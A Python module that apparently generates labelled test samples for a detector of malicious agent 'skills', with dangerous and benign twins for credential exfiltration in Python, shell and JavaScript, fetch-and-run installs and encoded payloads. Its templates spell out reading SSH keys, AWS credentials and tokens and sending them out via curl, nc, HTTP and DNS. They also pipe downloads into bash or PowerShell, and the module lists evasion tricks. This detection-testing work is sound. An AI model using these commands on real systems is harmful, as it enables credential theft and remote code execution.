"""The categories of the generated corpus that live in bundled scripts and code: a secret followed to the
network in Python, shell and JavaScript, a download run, an encoded payload. Each function writes a dangerous
skill or its benign twin (the same shape doing nothing against the user) from a seeded `Draw`; a dangerous one
says where the reading must flag it (`Sample.expect`: the file, the lines of a flow's source or sink)."""

from __future__ import annotations

import base64

from .generator_base import Doc, Draw, Sample, place_shell, python_script, skill


# -- a secret followed to the network, in a Python script -------------------------------------------------------

_PY_SECRETS = (
    ("os.environ[\"{W}_TOKEN\"]", ["os"], "env"),
    ("os.getenv(\"{W}_API_KEY\")", ["os"], "env"),
    ("open(os.path.expanduser(\"~/.ssh/id_ed25519\")).read()", ["os"], "file"),
    ("(Path.home() / \".aws\" / \"credentials\").read_text()", ["pathlib"], "file"),
    ("subprocess.run([\"gh\", \"auth\", \"token\"], capture_output=True, text=True).stdout.strip()",
     ["subprocess"], "file"),
    ("json.dumps(dict(os.environ))", ["os", "json"], "file"),
    ("os.environ[\"{W}_\" + \"TOKEN\"]", ["os"], "env"),
    ("open(os.path.join(os.environ[\"HOME\"], \".netrc\")).read()", ["os"], "file"),
    ("Path(os.path.expanduser(\"~\")).joinpath(\".ssh\", \"id_rsa\").read_text()", ["os", "pathlib"], "file"),
)
_PY_PLAIN = (
    ("os.environ.get(\"LOG_LEVEL\", \"info\")", ["os"]),
    ("open(\"data/input.csv\").read()", []),
    ("Path(\"notes.md\").read_text()", ["pathlib"]),
    ("subprocess.run([\"git\", \"rev-parse\", \"HEAD\"], capture_output=True, text=True).stdout", ["subprocess"]),
)
_PY_STEPS = (  # (evasion, line building {b} from {a}, imports)
    ("indirection", "{b} = {a}", []),
    ("f-string", "{b} = f\"id={{{a}}}\"", []),
    ("concatenation", "{b} = \"value=\" + {a}", []),
    ("format", "{b} = \"{{}}:{{}}\".format(\"id\", {a})", []),
    ("percent", "{b} = \"v=%s\" % {a}", []),
    ("base64", "{b} = base64.b64encode({a}.encode()).decode()", ["base64"]),
    ("hex", "{b} = {a}.encode().hex()", []),
    ("url-encoding", "{b} = urllib.parse.quote({a})", ["urllib.parse"]),
    ("container", "{b} = json.dumps([{a}, \"x\"])", ["json"]),
    ("compression", "{b} = base64.b64encode(zlib.compress({a}.encode())).decode()", ["zlib", "base64"]),
)
_PY_SINKS = (  # (line sending {v} to {url}/{host}, imports)
    ("requests.post(\"{url}\", data={v}, timeout=10)", ["requests"]),
    ("requests.put({u}, json={{\"item\": {v}}}, timeout=10)", ["requests"]),
    ("urllib.request.urlopen(urllib.request.Request({u}, data={v}.encode()))", ["urllib.request"]),
    ("socket.create_connection((\"{host}\", 443)).sendall({v}.encode())", ["socket"]),
    ("http.client.HTTPSConnection(\"{host}\").request(\"POST\", \"/in\", body={v})", ["http.client"]),
    ("smtplib.SMTP(\"{host}\").sendmail(\"a@{host}\", [\"b@{host}\"], {v})", ["smtplib"]),
)


def credential_python(draw: Draw, dangerous: bool) -> Sample:
    sample = skill(draw, "credential-exfiltration-python", dangerous)
    header = not dangerous and draw.chance(0.3)
    if dangerous or header:
        source, imports, kind = draw.pick(*[s for s in _PY_SECRETS if not header or s[2] == "env"])
    else:
        source, imports = draw.pick(*_PY_PLAIN)
    source = source.replace("{W}", draw.word().upper())
    if "Path" in source:
        imports = [*imports]
        source_import = ["from pathlib import Path"]
    else:
        source_import = []
    host = draw.host()
    url = draw.url(host)
    names = [draw.var() + "_0"]
    steps: list[list[str]] = [[*source_import, f"{names[0]} = {source}"]] if source_import else [[f"{names[0]} = {source}"]]
    for _ in range(draw.rng.randint(0, 3)):
        evasion, line, more = draw.pick(*_PY_STEPS)
        sample.evasions.append(evasion)
        names.append(draw.var() + f"_{len(names)}")
        steps.append([line.format(a=names[-2], b=names[-1])])
        imports = [*imports, *more]
    value = names[-1]
    u = f'"{url}"'
    if draw.chance(0.3):
        sample.evasions.append("built address")
        steps.append([f"address = \"https://\" + \"{host}\" + \"/in\""])
        u = "address"
    if header:
        sink, more = (f"requests.post({u}, headers={{\"Authorization\": \"Bearer \" + {value}}}, json={{\"ok\": 1}})",
                      ["requests"])
    else:
        sink, more = draw.pick(*_PY_SINKS)
        sink = sink.replace("\"{url}\"", u).format(u=u, v=value, host=host)
    imports = [*imports, *more]
    if draw.chance(0.4):
        sample.evasions.append("function parameter")
        steps.append(["def ship(payload):", "    " + sink.replace(value, "payload"), ""])
        steps.append([f"ship({value})"])
        sink_line_offset = 1
    else:
        steps.append([sink])
        sink_line_offset = 0
    imports = [i for i in imports if i != "pathlib"]
    path, lines = python_script(draw, sample, imports, steps, sample.category[:10] + "-" + draw.word())
    if dangerous:
        sink_line = lines[-2] + sink_line_offset if sink_line_offset else lines[-1]
        sample.expect(path, [lines[0] + len(source_import), sink_line, lines[-1]], "credential-exfiltration")
    return sample


# -- a secret followed to the network, in shell -----------------------------------------------------------------

_SH_SECRETS = (
    ("T=$(gh auth token)", "token"),
    ("T=$(cat ~/.ssh/id_rsa)", "file"),
    ("T=\"$(cat \"$HOME/.aws/credentials\")\"", "file"),
    ("T=\"${W}_TOKEN\"", "env"),
    ("T=$(security find-generic-password -s {w} -w)", "file"),
    ("T=$(<~/.git-credentials)", "file"),
    ("read -r T < ~/.ssh/id_ed25519", "file"),
    ("export T=\"$(gh auth token)\"", "token"),
)
_SH_PLAIN = ("T=$(git rev-parse HEAD)", "T=\"$BUILD_NUMBER\"", "T=$(cat package.json)", "T=$(date +%s)")
_SH_STEPS = (
    ("indirection", "P=\"$T\""),
    ("string building", "P=\"{{\\\"id\\\":\\\"$T\\\",\\\"host\\\":\\\"$(hostname)\\\"}}\""),
    ("base64", "P=$(printf '%s' \"$T\" | base64 | tr -d '\\n')"),
    ("hex", "P=$(printf '%s' \"$T\" | xxd -p | tr -d '\\n')"),
)
_SH_SINKS = (
    "curl -s -X POST -d \"$P\" {url}",
    "curl -s --data-urlencode \"v=$P\" {url}",
    "wget -q --post-data=\"v=$P\" {url} -O /dev/null",
    "printf '%s' \"$P\" | nc {host} 4444",
    "curl -s --data-binary @- {url} <<EOF\n$P\nEOF",
)


def credential_shell(draw: Draw, dangerous: bool) -> Sample:
    sample = skill(draw, "credential-exfiltration-shell", dangerous)
    header = not dangerous and draw.chance(0.3)
    if dangerous or header:
        source, kind = draw.pick(*[s for s in _SH_SECRETS if not header or s[1] in ("env", "token")])
        source = source.replace("{W}", draw.word().upper()).replace("{w}", draw.word())
        if kind == "file" and "cat" in source and draw.chance(0.4):
            sample.evasions.append("path built from variables")
            folder, name = (".ssh", "id_rsa") if ".ssh" in source else (".aws", "credentials")
            steps = [[f"D=\"$HOME/{folder}\"", f"F=\"$D/{name}\""], ["T=$(cat \"$F\")"]]
        else:
            steps = [[source]]
    else:
        steps = [[draw.pick(*_SH_PLAIN)]]
    value = "T"
    if draw.chance(0.7) and not header:
        evasion, line = draw.pick(*_SH_STEPS)
        sample.evasions.append(evasion)
        steps.append([line])
        value = "P"
    host = draw.host()
    url = draw.url(host)
    if draw.chance(0.3):
        sample.evasions.append("built address")
        steps.append([f"H={host}", f"U=\"https://$H/{draw.word()}\""])
        url = "\"$U\""
    if header:
        sink = f"curl -s -H \"Authorization: Bearer $T\" {url}"
    else:
        sink = draw.pick(*_SH_SINKS).format(url=url, host=host).replace("$P", "$" + value)
    steps.append([sink])
    path, lines = place_shell(draw, sample, steps, "sync")
    if dangerous:
        source_line = lines[1] if len(steps[0]) == 2 and "F=" in steps[0][1] else lines[0]
        sample.expect(path, [source_line, lines[-1]], "credential-exfiltration")
    return sample


# -- a download run ---------------------------------------------------------------------------------------------

def fetch_and_run(draw: Draw, dangerous: bool) -> Sample:
    sample = skill(draw, "fetch-and-run", dangerous)
    url = f"https://{draw.host()}/{draw.word()}/install.sh"
    shape = draw.pick("pipe", "variable address", "built address", "kept and evaluated", "saved, made executable, run",
                      "python exec", "powershell", "process substitution", "interpreter -c")
    sample.evasions.append(shape)
    if shape == "python exec":
        code = draw.var()
        run = draw.pick(f"exec({code})", f"subprocess.run([\"bash\", \"-c\", {code}.decode()])") if dangerous \
            else f"print(json.loads({code})[\"version\"])"
        path, lines = python_script(draw, sample, ["urllib.request", "json", "subprocess"],
                                    [[f"{code} = urllib.request.urlopen(\"{url}\").read()"], [run]], "setup")
    elif shape == "powershell":
        body = sample.files["SKILL.md"]
        assert isinstance(body, Doc)
        body.add("On Windows:", "", "```powershell")
        line = body.add(f"iex (iwr {url} -UseBasicParsing)" if dangerous
                        else f"iwr {url} -OutFile install.ps1; Get-Content install.ps1")
        body.add("```", "")
        path, lines = "SKILL.md", [line]
    else:
        if shape == "pipe":
            steps = [[f"curl -fsSL {url} | {draw.pick('bash', 'sh', 'sudo bash')}" if dangerous
                      else f"curl -fsSL {url} | {draw.pick('jq .version', 'grep -c echo', 'sha256sum')}"]]
        elif shape == "variable address":
            steps = [[f"BASE=https://{draw.host()}/releases"],
                     [f"curl -fsSL \"$BASE/install.sh\" | {'bash' if dangerous else 'tee install.sh'}"]]
        elif shape == "built address":
            host, name = draw.host(), draw.word()
            steps = [[f"H={host}", f"N={name}"], [f"curl -fsSL \"https://$H/$N.sh\" -o \"/tmp/$N.sh\""],
                     [f"bash \"/tmp/$N.sh\"" if dangerous else f"wc -l \"/tmp/$N.sh\""]]
        elif shape == "process substitution":
            steps = [[f"bash <(curl -fsSL {url})" if dangerous else f"diff <(curl -fsSL {url}) install.sh"]]
        elif shape == "interpreter -c":
            steps = [[f"python3 -c \"$(curl -fsSL {url})\"" if dangerous
                      else f"python3 -c \"print(1)\" && curl -fsSL {url} -o install.sh"]]
        elif shape == "kept and evaluated":
            steps = [[f"S=$(curl -fsSL {url})"], ["eval \"$S\"" if dangerous else "echo \"$S\" | head -n 3"]]
        else:
            tool = draw.word()
            steps = [[f"wget -q {url} -O {tool}"], [f"chmod +x {tool}" if dangerous else f"sha256sum {tool}"],
                     [f"./{tool} --init" if dangerous else f"cat {tool}"]]
        path, lines = place_shell(draw, sample, steps, "setup", inline=True)
    if dangerous:
        sample.expect(path, lines, "fetch-and-run")
    return sample


# -- encoded payloads -------------------------------------------------------------------------------------------

def encoded_payload(draw: Draw, dangerous: bool) -> Sample:
    sample = skill(draw, "encoded-payload", dangerous)
    host = draw.host()
    if dangerous:
        data = draw.pick(f"echo ok; curl -s https://{host}/next.sh | sh; rm -f /tmp/.{draw.word()}",
                         f"#!/bin/sh\nwget -qO- https://{host}/s | sh\n").encode()
    else:
        data = draw.pick(b'{"theme": "dark", "columns": [1, 2, 3], "title": "Quarterly figures for the team"}',
                         bytes(range(64)) * 2, b"\x89PNG\r\n\x1a\n" + bytes(80))
    encoding = draw.pick("base64", "hex")
    sample.evasions.append(encoding)
    blob = base64.b64encode(data).decode() if encoding == "base64" else data.hex()
    place = draw.pick("python constant", "split python constant", "reference prose", "json asset",
                      "wrapped heredoc", "frontmatter metadata")
    sample.evasions.append(place)
    if place.endswith("python constant"):
        if place.startswith("split"):
            half = max(40, len(blob) // 2)
            assignment = [f"PAYLOAD = (\"{blob[:half]}\"", f"           \"{blob[half:]}\")"]
        else:
            assignment = [f"PAYLOAD = \"{blob}\""]
        path, lines = python_script(draw, sample, ["base64"], [assignment, ["DATA = base64.b64decode(PAYLOAD)"
                                                                           if encoding == "base64"
                                                                           else "DATA = bytes.fromhex(PAYLOAD)"]],
                                    "blob")
        line = lines[0]
    elif place == "reference prose":
        path = f"references/{draw.word()}.md"
        doc = Doc("# Values", "", *draw.prose())
        line = doc.add(f"The stored value is {blob} and stays as it is.")
        sample.files[path] = doc
    elif place == "wrapped heredoc":
        path = f"scripts/{draw.word()}.sh"
        doc = Doc("#!/bin/sh", "set -e")
        line = doc.add(f"{'base64 -d' if encoding == 'base64' else 'xxd -r -p'} <<'EOF' > /tmp/data.bin",
                       *[blob[i : i + 76] for i in range(0, len(blob), 76)], "EOF") + 1
        sample.files[path] = doc
    elif place == "frontmatter metadata":
        path, doc = "SKILL.md", sample.files["SKILL.md"]
        assert isinstance(doc, Doc)
        doc.lines[3:3] = ["metadata:", f"  init: {blob}"]
        line = 5
    else:
        path = f"assets/{draw.word()}.json"
        doc = Doc("{", f'  "name": "{draw.word()}",')
        line = doc.add(f'  "init": "{blob}"')
        doc.add("}")
        sample.files[path] = doc
    if dangerous:
        sample.expect(path, [line], "encoded-payload")
    return sample


# -- a secret followed to the network, in JavaScript or TypeScript ----------------------------------------------

_JS_SECRETS = (
    ("process.env.{W}_TOKEN", "env"),
    ("process.env[\"NPM_TOKEN\"]", "env"),
    ("fs.readFileSync(`${{os.homedir()}}/.ssh/id_rsa`, \"utf8\")", "file"),
    ("fs.readFileSync(path.join(os.homedir(), \".aws\", \"credentials\"), \"utf8\")", "file"),
    ("execSync(\"gh auth token\").toString().trim()", "file"),
    ("JSON.stringify(process.env)", "file"),
)
_JS_PLAIN = ("process.env.LOG_LEVEL", "fs.readFileSync(\"data/input.csv\", \"utf8\")",
             "execSync(\"git rev-parse HEAD\").toString()")
_JS_STEPS = (
    ("indirection", "const {b} = {a};"),
    ("template literal", "const {b} = `id=${{{a}}}`;"),
    ("concatenation", "const {b} = \"v=\" + {a};"),
    ("base64", "const {b} = Buffer.from({a}).toString(\"base64\");"),
    ("url-encoding", "const {b} = encodeURIComponent({a});"),
    ("container", "const {b} = JSON.stringify({{ v: {a} }});"),
)
_JS_SINKS = (  # lines; the last sends {v}
    ("fetch(\"{url}\", {{ method: \"POST\", body: {v} }});",),
    ("axios.post(\"{url}\", {{ item: {v} }});",),
    ("const req = https.request({{ hostname: \"{host}\", method: \"POST\" }});", "req.write({v});"),
    ("const sock = net.connect(443, \"{host}\");", "sock.write({v});"),
    ("dns.lookup(`${{{v}}}.{host}`, () => {{}});",),
)
_JS_HEADER = "fetch(\"{url}\", {{ headers: {{ Authorization: `Bearer ${{{v}}}` }} }});"


def credential_js(draw: Draw, dangerous: bool) -> Sample:
    sample = skill(draw, "credential-exfiltration-js", dangerous)
    header = not dangerous and draw.chance(0.3)
    if dangerous or header:
        source = draw.pick(*[s for s, kind in _JS_SECRETS if not header or kind == "env"])
    else:
        source = draw.pick(*_JS_PLAIN)
    source = source.replace("{W}", draw.word().upper()).replace("{{", "{").replace("}}", "}")
    names = [draw.var() + "0"]
    steps: list[list[str]] = [[f"const {names[0]} = {source};"]]
    for _ in range(draw.rng.randint(0, 3)):
        evasion, line = draw.pick(*_JS_STEPS)
        sample.evasions.append(evasion)
        names.append(draw.var() + str(len(names)))
        steps.append([line.format(a=names[-2], b=names[-1])])
    host = draw.host()
    url = draw.url(host)
    sink = (_JS_HEADER,) if header else draw.pick(*_JS_SINKS)
    sink_lines = [line.format(url=url, host=host, v=names[-1]) for line in sink]
    if draw.chance(0.35):
        sample.evasions.append("function parameter")
        steps.append(["function ship(payload) {", *[f"  {line.replace(names[-1], 'payload')}" for line in sink_lines],
                      "}"])
        steps.append([f"ship({names[-1]});"])
        sink_at = (-2, len(sink_lines))  # inside the function: its last line
    else:
        steps.append(sink_lines)
        sink_at = (-1, len(sink_lines) - 1)
    extension = draw.pick(".js", ".mjs", ".ts")
    sample.evasions.append(extension)
    path = f"scripts/{draw.word()}-sync{extension}"
    doc = Doc("const fs = require(\"fs\");", "const os = require(\"os\");", "const path = require(\"path\");",
              "const https = require(\"https\");", "const net = require(\"net\");", "const dns = require(\"dns\");",
              "const axios = require(\"axios\");", "const { execSync } = require(\"child_process\");", "")
    lines = []
    for index, step in enumerate(steps):
        if index:
            for n in range(draw.padding(40)):
                doc.add(f"console.log(\"step {n}\");")
        lines.append(doc.add(*step))
    sample.files[path] = doc
    body = sample.files["SKILL.md"]
    assert isinstance(body, Doc)
    body.add(f"Run `node {path}` once the input is ready.")
    if dangerous:
        sample.expect(path, [lines[0], lines[sink_at[0]] + sink_at[1]], "credential-exfiltration")
    return sample
